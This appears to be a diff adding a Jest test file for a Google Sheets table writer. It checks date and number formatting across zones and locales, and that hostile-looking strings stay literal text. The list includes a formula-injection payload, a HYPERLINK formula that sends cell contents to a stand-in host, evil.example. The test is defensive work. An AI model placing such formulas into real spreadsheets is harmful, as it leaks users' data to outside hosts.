@@ -1,0 +1,114 @@
+// Days, numbers and text as the writer leaves them, in every zone and locale.
+
+import { googleWorld } from '../../contracts/google-world';
+import { NEW_DATA, writeTable } from '../../contracts/written-table';
+import { cell, typed } from './typed-table';
+
+describe('days and numbers', () => {
+  const ZONES = ['America/Los_Angeles', 'Asia/Tokyo', 'Pacific/Apia', 'Etc/UTC'];
+  const DAYS = ['2026-11-19', '2024-02-29', '2026-03-08', '2026-11-01', '2011-12-30', '1999-12-31'];
+  test.each(ZONES.flatMap((timeZone) => ['en_US', 'de_DE'].map((locale) => ({ timeZone, locale }))))(
+    'stay what they are in $timeZone, $locale',
+    (place) => {
+      const world = googleWorld(place);
+      const rows = DAYS.map((day, i) => [day, 'x', 1_234_560 + i, 0.01234, 1234.5]);
+      writeTable(world, typed(...rows), NEW_DATA);
+      world.act(() => {
+        const range = SpreadsheetApp.getActive().getSheetByName('Data')?.getRange('A2:E7');
+        if (!range) throw new Error('no range');
+        const isGerman = place.locale === 'de_DE';
+        expect(range.getDisplayValues()).toEqual(
+          DAYS.map((day, i) => [
+            day,
+            'x',
+            isGerman ? `1.234.56${i}` : `1,234,56${i}`,
+            isGerman ? '1,23%' : '1.23%',
+            isGerman ? '$1.234,50' : '$1,234.50',
+          ]),
+        );
+        const values = range.getValues();
+        values.forEach(([date, , ...numbers], i) => {
+          expect(date).toBeInstanceOf(Date);
+          // 2011-12-30 never was on the clocks of Apia, and is a day like any other in a cell.
+          if (place.timeZone !== 'Pacific/Apia' || DAYS[i] !== '2011-12-30')
+            expect(Utilities.formatDate(date, place.timeZone, 'yyyy-MM-dd HH:mm')).toBe(`${DAYS[i]} 00:00`);
+          expect(numbers).toEqual([1_234_560 + i, 0.01234, 1234.5]);
+        });
+      });
+      // 2026-11-19 is day 46345 and 2024-02-29 is 995 days before: 263 days to 19 Nov 2024, and two years.
+      expect([cell(world, 2, 1).value, cell(world, 3, 1).value]).toEqual([46_345, 46_345 - 264 - 730]);
+    },
+  );
+
+  test('numbers are exact', () => {
+    const numbers = [0.1 + 0.2, 1e-7, 12_345_678.905, 5e-324, Number.MAX_SAFE_INTEGER, 0];
+    const world = googleWorld({ timeZone: 'Etc/UTC', locale: 'de_DE' });
+    writeTable(world, typed(...numbers.map((value) => ['2026-11-19', 'x', 1, value, value])), NEW_DATA);
+    numbers.forEach((value, i) => {
+      expect([cell(world, i + 2, 4).value, cell(world, i + 2, 5).value]).toEqual([value, value]);
+    });
+  });
+});
+
+describe('text', () => {
+  const HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    '=1+1',
+    '=',
+    '+1',
+    '+SUM(A1)',
+    '-1',
+    '-',
+    '@SUM(A1)',
+    "'quoted'",
+    "''",
+    '00123',
+    'May 5',
+    '5.5.2026',
+    '2026-11-19',
+    '11:30',
+    'TRUE',
+    'false',
+    '1e5',
+    '1400000001',
+    '1,5',
+    '1.5',
+    '10%',
+    '$5',
+    '€ 5',
+    ' =1',
+    '\t=1',
+    '\n=1',
+    '#REF!',
+    '1/2',
+    '(5)',
+    '😀',
+    'x'.repeat(50_000),
+  ];
+  test.each(['en_US', 'de_DE'])('reads back exactly, as text and with no formula, in %s', (locale) => {
+    const world = googleWorld({ timeZone: 'Etc/UTC', locale });
+    const table = typed(...HOSTILE.map((name, i) => ['2026-11-19', name, i, 0, 0]));
+    // The second write finds the cells as the first has left them.
+    for (const _time of [1, 2]) {
+      writeTable(world, table, NEW_DATA);
+      world.act(() => {
+        const range = SpreadsheetApp.getActive().getSheetByName('Data')?.getRange(2, 2, HOSTILE.length, 1);
+        expect(range?.getValues()).toEqual(HOSTILE.map((text) => [text]));
+        expect(range?.getDisplayValues()).toEqual(HOSTILE.map((text) => [text]));
+        expect(range?.getFormulas()).toEqual(HOSTILE.map(() => ['']));
+      });
+    }
+  });
+
+  test('stays text where the user has set another format since', () => {
+    const world = googleWorld();
+    writeTable(world, typed(['2026-11-19', '00123', 1, 1, 1]), NEW_DATA);
+    world.workbook.setStyle(
+      world.sheetData('Data').id,
+      { row: 2, column: 2, rows: 1, columns: 1 },
+      { format: '0.00' },
+    );
+    writeTable(world, typed(['2026-11-19', '00123', 1, 1, 1], ['2026-11-19', '1e5', 1, 1, 1]), NEW_DATA);
+    expect([cell(world, 2, 2).value, cell(world, 3, 2).value]).toEqual(['00123', '1e5']);
+  });
+});
